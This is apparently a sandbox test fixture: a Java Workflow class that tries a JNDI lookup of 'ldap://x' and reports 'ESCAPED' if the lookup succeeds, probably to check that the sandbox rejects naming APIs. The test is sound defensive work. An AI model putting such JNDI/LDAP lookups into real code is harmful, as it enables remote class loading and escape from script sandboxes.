import io.countersign.script.*;
import java.util.*;

public class RejNaming implements Workflow {

    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
return WorkflowResult.ok("ESCAPED: " + new javax.naming.InitialContext().lookup("ldap://x"));
    }
}
